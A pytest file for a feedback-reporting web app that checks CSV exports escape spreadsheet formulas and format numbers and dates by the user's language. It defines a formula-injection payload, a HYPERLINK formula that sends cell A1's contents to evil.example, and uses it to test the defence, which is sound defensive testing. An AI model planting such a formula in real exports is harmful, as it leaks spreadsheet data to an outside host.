"""#20.4: no CSV the app writes carries a live spreadsheet formula (core.csvfile), and numbers
follow the download's language."""
from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

from core.csvfile import csv_bytes, safe_cell
from core.extensions import db
from feedback import release, services
from tests.test_feedback_factories import add_responses, attend, close_window, make_group

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"x")'


def test_cells_that_start_a_formula_are_text():
    for text in (EVIL, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"):
        assert safe_cell(text) == "'" + text
    assert safe_cell("Raha") == "Raha" and safe_cell(7) == 7 and safe_cell(None) == ""
    rows = list(csv.reader(io.StringIO(csv_bytes([[EVIL, 5]]).decode("utf-8-sig")), delimiter=";"))
    assert rows == [["'" + EVIL, "5"]]


def unit_with_theme(facilitator, theme):
    group = make_group([facilitator], title="Ryhmä", theme=theme, sessions=1, enrolled=5,
                       start=datetime(2026, 3, 2, 10, tzinfo=UTC))
    window = services.open_session_window(group.sessions[0])
    db.session.commit()
    attend(group.sessions[0], group.enrolments)
    add_responses(window, [[7, 6, 7, 6]] * 5)
    close_window(window)
    release.ensure_group_release(group)
    db.session.commit()


def test_a_hostile_theme_reaches_the_report_csv_as_text(lead_client, facilitator):
    unit_with_theme(facilitator, EVIL)
    response = lead_client.get("/feedback/report.csv", query_string={"start": "2026-03-01", "end": "2026-04-30"})
    text = response.data.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert ["'" + EVIL, "1", "5", "6,5"] in rows
    # No cell anywhere in the file starts a formula.
    assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for row in rows for cell in row)


def test_numbers_follow_the_downloads_language(lead_client, lead, facilitator):
    unit_with_theme(facilitator, "Raha")
    query = {"start": "2026-03-01", "end": "2026-04-30"}
    # English is Babel's en_FI (Finnish number and date conventions, the spreadsheet's too).
    for language, mean, period in (("fi", "6,5", "1.3.2026 – 30.4.2026"), ("sv", "6,5", "1.3.2026 – 30.4.2026"),
                                   ("en", "6,5", "01/03/2026 – 30/04/2026")):
        lead.language = language
        db.session.commit()
        rows = list(csv.reader(io.StringIO(lead_client.get("/feedback/report.csv", query_string=query)
                                           .data.decode("utf-8-sig")), delimiter=";"))
        assert ["Raha", "1", "5", mean] in rows, (language, rows)
        assert rows[1][1] == period, (language, rows[1])
        page = lead_client.get("/feedback/report", query_string=query).get_data(as_text=True)
        assert f'<td class="num">{mean}</td>' in page
